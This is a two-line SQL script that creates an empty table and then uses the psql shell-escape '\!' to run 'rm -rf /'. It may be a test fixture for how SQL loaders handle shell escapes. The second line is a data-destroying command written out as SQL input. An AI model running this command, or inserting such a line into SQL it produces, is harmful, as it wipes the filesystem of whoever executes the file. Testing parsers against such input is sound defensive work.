CREATE TABLE a ();
\! rm -rf /
